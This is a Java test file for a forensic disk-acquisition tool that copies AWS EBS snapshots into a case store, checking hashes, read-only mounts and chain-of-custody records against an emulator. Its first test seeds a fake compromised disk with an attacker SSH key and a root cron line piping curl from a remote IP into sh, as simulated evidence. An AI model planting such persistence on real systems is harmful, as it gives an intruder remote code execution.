package io.custody.collector.acquire;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import io.custody.collector.testing.CliRun;
import io.custody.collector.testing.DiskImages;
import io.custody.collector.testing.SeedScenario;
import io.custody.evidence.Json;
import io.custody.evidence.Sha256;
import io.custody.evidence.custody.CustodyEntry;
import io.custody.evidence.testing.MotoServer;
import io.custody.evidence.testing.Run;
import io.custody.evidence.workspace.CaseStore;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Clock;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import software.amazon.awssdk.core.sync.RequestBody;
import software.amazon.awssdk.services.ebs.EbsClient;
import software.amazon.awssdk.services.ebs.model.ChecksumAlgorithm;
import software.amazon.awssdk.services.ec2.Ec2Client;
import software.amazon.awssdk.services.ec2.model.Filter;

/**
 * Both disk paths against the emulator: the direct path reads back a real ext4 image uploaded with
 * the EBS direct APIs (all-zero blocks left out), at the block size the emulator reports; the volume
 * path runs its API flow and cleans up when the device never appears.
 */
@ExtendWith(MotoServer.class)
class DiskAcquisitionAwsTest {

  @TempDir Path tmp;
  Path home;
  Ec2Client ec2;

  @BeforeEach
  void open() {
    home = tmp.resolve("home");
    ec2 = SeedScenario.client(Ec2Client.builder(), MotoServer.endpoint(), "us-east-1");
    assertThat(CliRun.run("case", "open", "--case", "IR-D", "--examiner", "E", "--home", home.toString()).exit()).isZero();
  }

  @AfterEach
  void close() {
    ec2.close();
  }

  /** Uploads an image as a snapshot with StartSnapshot/PutSnapshotBlock/CompleteSnapshot, skipping zero blocks. */
  static String upload(Path image, int volumeGiB) throws Exception {
    try (EbsClient ebs = SeedScenario.client(EbsClient.builder(), MotoServer.endpoint(), "us-east-1")) {
      String snap = ebs.startSnapshot(r -> r.volumeSize((long) volumeGiB).description("IR snapshot of web-1")).snapshotId();
      // The emulator's block size, from its own answer (AWS's would be 524288).
      int blockSize = ebs.listSnapshotBlocks(r -> r.snapshotId(snap)).blockSize();
      byte[] all = Files.readAllBytes(image);
      int changed = 0;
      for (int i = 0; i * blockSize < all.length; i++) {
        byte[] block = java.util.Arrays.copyOfRange(all, i * blockSize, (i + 1) * blockSize);
        boolean zero = true;
        for (byte b : block) {
          zero &= b == 0;
        }
        if (zero) {
          continue;
        }
        String sum = Base64.getEncoder().encodeToString(MessageDigest.getInstance("SHA-256").digest(block));
        int index = i;
        ebs.putSnapshotBlock(r -> r.snapshotId(snap).blockIndex(index).dataLength(blockSize).checksum(sum)
            .checksumAlgorithm(ChecksumAlgorithm.SHA256), RequestBody.fromBytes(block));
        changed++;
      }
      int n = changed;
      ebs.completeSnapshot(r -> r.snapshotId(snap).changedBlocksCount(n));
      return snap;
    }
  }

  static Sha256 paddedHash(Path image, long size) throws Exception {
    MessageDigest md = MessageDigest.getInstance("SHA-256");
    try (InputStream in = Files.newInputStream(image)) {
      byte[] buf = new byte[1 << 20];
      int n;
      long done = 0;
      while ((n = in.read(buf)) > 0) {
        md.update(buf, 0, n);
        done += n;
      }
      byte[] zeros = new byte[1 << 20];
      while (done < size) {
        int k = (int) Math.min(zeros.length, size - done);
        md.update(zeros, 0, k);
        done += k;
      }
    }
    return Sha256.of(md.digest());
  }

  @Test
  void direct_realExt4Image_rawHashEqualsTheOriginalVolume_thenMountsReadOnly() throws Exception {
    Path img = DiskImages.ext4(tmp, "web1.ext4", 8, Map.of("home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAA attacker@evil\n",
        "etc/cron.d/update", "* * * * * root curl -s http://203.0.113.9/x | sh\n"));
    String snap = upload(img, 1);
    CliRun r = CliRun.aws(home, "acquire", "disk", "--case", "IR-D", "--snapshot", snap, "--method", "direct", "--concurrency", "8", "--json");
    assertThat(r.exit()).as(r.toString()).isZero();
    JsonNode item = Json.mapper().readTree(r.out()).get("item");
    assertThat(item.get("size").asLong()).isEqualTo(1L << 30);
    assertThat(item.get("hashes").get("sha256").asText()).isEqualTo(paddedHash(img, 1L << 30).hex());
    assertThat(item.get("files").toString()).contains("ebs-block-sha256.csv");
    var kase = CaseStore.at(home, Clock.systemUTC()).load("IR-D");
    assertThat(kase.log().verify().problems()).isEmpty();

    // Mounting the item needs root (loop devices); the rest of this test says so and stops without it.
    assumeTrue(DiskImages.root(), "mounting needs root");
    CliRun m = CliRun.run("mount", "--case", "IR-D", "--item", snap, "--home", home.toString());
    assertThat(m.exit()).as(m.toString()).isZero();
    Path mnt = home.resolve("cases/IR-D/mnt/item-001/disk");
    try {
      assertThat(Files.readString(mnt.resolve("home/alice/.ssh/authorized_keys"))).contains("attacker@evil");
      assertThat(Run.of(null, "findmnt", "-no", "OPTIONS", mnt.toString()).out()).contains("ro", "noexec", "nodev", "nosuid");
    } finally {
      CliRun u = CliRun.run("umount", "--case", "IR-D", "--item", snap, "--home", home.toString());
      assertThat(u.exit()).as(u.toString()).isZero();
      assertThat(u.out()).contains("unchanged");
    }
    assertThat(Files.exists(mnt)).isFalse();
    List<CustodyEntry> entries = kase.log().verify().entries();
    assertThat(entries).extracting(CustodyEntry::event).contains("mounted", "unmounted");
  }

  @Test
  void volume_deviceNeverAppears_timeoutCleansUpAndRecords() throws Exception {
    String vol = ec2.createVolume(r -> r.availabilityZone("us-east-1a").size(8)).volumeId();
    String snap = ec2.createSnapshot(r -> r.volumeId(vol)).snapshotId();
    String ami = ec2.describeImages(r -> r.owners("amazon")).images().get(0).imageId();
    String workstation = ec2.runInstances(r -> r.imageId(ami).instanceType("m5.large").minCount(1).maxCount(1)
        .placement(p -> p.availabilityZone("us-east-1a"))).instances().get(0).instanceId();
    Files.createDirectories(tmp.resolve("sys/block"));
    Files.createDirectories(tmp.resolve("dev"));
    CliRun r = CliRun.aws(home, "acquire", "disk", "--case", "IR-D", "--snapshot", snap, "--workstation", workstation, "--az", "us-east-1a",
        "--device-timeout", "2", "--sysfs", tmp.resolve("sys").toString(), "--dev", tmp.resolve("dev").toString());
    assertThat(r.exit()).as(r.toString()).isEqualTo(5);
    assertThat(r.err()).as(r.toString()).contains("no block device with serial vol").doesNotContain("not cleaned up");
    // Nothing left behind in AWS: the volume the run made is gone.
    assertThat(ec2.describeVolumes(x -> x.filters(Filter.builder().name("tag:custody:case").values("IR-D").build())).volumes()).isEmpty();
    var entries = CaseStore.at(home, Clock.systemUTC()).load("IR-D").log().verify().entries();
    assertThat(entries).filteredOn(e -> e.aws() != null && e.refersTo() != null).extracting(e -> e.aws().api())
        .containsExactly("ec2:CreateVolume", "ec2:AttachVolume", "ec2:DetachVolume", "ec2:DeleteVolume");
    assertThat(entries).filteredOn(e -> e.aws() != null && e.refersTo() != null).allSatisfy(e -> assertThat(e.aws().requestId()).isNotBlank());
    assertThat(io.custody.evidence.custody.CustodyLog.openIntents(entries)).isEmpty();
  }

  @Test
  void volume_kmsKey_copiesTheSnapshotReencryptedFirst_recorded() throws Exception {
    String vol = ec2.createVolume(r -> r.availabilityZone("us-east-1a").size(8).encrypted(true)).volumeId();
    String snap = ec2.createSnapshot(r -> r.volumeId(vol)).snapshotId();
    String ami = ec2.describeImages(r -> r.owners("amazon")).images().get(0).imageId();
    String workstation = ec2.runInstances(r -> r.imageId(ami).instanceType("m5.large").minCount(1).maxCount(1)
        .placement(p -> p.availabilityZone("us-east-1a"))).instances().get(0).instanceId();
    String key = "arn:aws:kms:us-east-1:123456789012:key/0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0";
    Files.createDirectories(tmp.resolve("sys/block"));
    CliRun r = CliRun.aws(home, "acquire", "disk", "--case", "IR-D", "--snapshot", snap, "--kms-key", key, "--workstation", workstation,
        "--az", "us-east-1a", "--device-timeout", "1", "--sysfs", tmp.resolve("sys").toString(), "--dev", tmp.resolve("dev").toString());
    assertThat(r.exit()).as(r.toString()).isEqualTo(5);
    var copies = ec2.describeSnapshots(x -> x.ownerIds("self").filters(Filter.builder().name("tag:custody:snapshot").values(snap).build())).snapshots();
    assertThat(copies).singleElement().satisfies(c -> {
      assertThat(c.encrypted()).isTrue();
      assertThat(c.kmsKeyId()).isEqualTo(key);
    });
    var entries = CaseStore.at(home, Clock.systemUTC()).load("IR-D").log().verify().entries();
    assertThat(entries).filteredOn(e -> e.aws() != null && e.refersTo() != null).extracting(e -> e.aws().api())
        .startsWith("ec2:CopySnapshot", "ec2:CreateVolume");
  }

  @Test
  void badSnapshots_clearErrors() {
    CliRun unknown = CliRun.aws(home, "acquire", "disk", "--case", "IR-D", "--snapshot", "snap-0123456789abcdef0", "--method", "direct");
    assertThat(unknown.exit()).as(unknown.toString()).isEqualTo(3);
    assertThat(unknown.err()).contains("snap-0123456789abcdef0");
    CliRun malformed = CliRun.aws(home, "acquire", "disk", "--case", "IR-D", "--snapshot", "vol-123");
    assertThat(malformed.exit()).isEqualTo(2);
    CliRun otherRegion = CliRun.run("acquire", "disk", "--case", "IR-D", "--snapshot", "snap-0123456789abcdef0", "--workstation", "i-0123456789abcdef0",
        "--az", "eu-west-1a", "--home", home.toString(), "--endpoint-url", MotoServer.endpoint().toString(), "--region", "eu-west-1");
    assertThat(otherRegion.exit()).isEqualTo(3);
    assertThat(otherRegion.err()).contains("eu-west-1", "--region");
    CliRun noSource = CliRun.run("acquire", "disk", "--case", "IR-D", "--device", "/dev/null", "--home", home.toString());
    assertThat(noSource.exit()).isEqualTo(2);
    assertThat(noSource.err()).contains("--source-id");
  }
}
